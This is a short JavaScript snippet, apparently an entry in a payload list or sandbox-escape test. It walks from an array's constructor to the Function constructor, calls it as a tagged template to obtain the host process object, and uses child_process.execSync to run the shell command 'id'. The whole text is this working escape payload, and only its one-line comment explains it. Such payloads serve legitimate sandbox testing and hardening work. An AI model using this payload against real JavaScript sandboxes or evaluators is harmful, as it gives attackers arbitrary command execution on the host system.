// class-walk: Function reached through an array's constructor is called as a tagged template
const F = [].constructor.constructor;
F`return process`()
  .mainModule.require('child_process')
  .execSync('id');
